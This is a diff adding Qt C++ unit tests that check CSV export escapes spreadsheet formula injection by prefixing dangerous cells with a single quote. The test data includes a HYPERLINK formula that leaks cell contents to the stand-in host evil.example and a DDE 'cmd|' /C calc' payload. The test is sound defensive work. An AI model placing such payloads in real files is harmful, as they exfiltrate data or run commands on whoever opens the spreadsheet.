@@ -115,6 +115,17 @@ private Q_SLOTS:
         QTest::addRow("newline") << u"a\nb"_qs << u"\"a\nb\""_qs;
         QTest::addRow("carriage return") << u"a\rb"_qs << u"\"a\rb\""_qs;
         QTest::addRow("empty") << QString() << QString();
+        // Formula injection (OWASP "CSV Injection"): a leading = + - @ tab or CR makes a spreadsheet run
+        // the cell; a leading single quote makes it text.
+        QTest::addRow("hyperlink formula")
+            << u"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"_qs
+            << u"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""_qs;
+        QTest::addRow("plus") << u"+1+cmd|' /C calc'!A0"_qs << u"'+1+cmd|' /C calc'!A0"_qs;
+        QTest::addRow("minus") << u"-2+3"_qs << u"'-2+3"_qs;
+        QTest::addRow("at") << u"@SUM(1,2)"_qs << u"\"'@SUM(1,2)\""_qs;
+        QTest::addRow("tab") << u"\t=1"_qs << u"'\t=1"_qs;
+        QTest::addRow("leading carriage return") << u"\r=1"_qs << u"\"'\r=1\""_qs;
+        QTest::addRow("equals inside") << u"a=b"_qs << u"a=b"_qs;
     }
 
     void csvField()
@@ -136,6 +147,17 @@ private Q_SLOTS:
         QVERIFY(row.contains(u"\"非政府单位使用 gov.cn, \"\"quoted\"\"\""_qs));
         QVERIFY(row.contains(u"dns: A 记录指向 203.0.113.5 | screenshot: 首页"_qs));
         QCOMPARE(findingsToCsv({}).count('\n'), 1); // header only
+    }
+
+    void orgsCsvEscapesFormulas()
+    {
+        Organization o;
+        o.id = u"=HYPERLINK(\"http://evil.example\")"_qs;
+        o.name = u"@cmd"_qs;
+        const QByteArray csv = orgsToCsv({o}, {});
+        const QString row = QString::fromUtf8(csv.split('\n').value(1));
+        QVERIFY2(row.startsWith(u"\"'=HYPERLINK("_qs), qPrintable(row));
+        QVERIFY2(row.contains(u",'@cmd,"_qs), qPrintable(row));
     }
 };
 
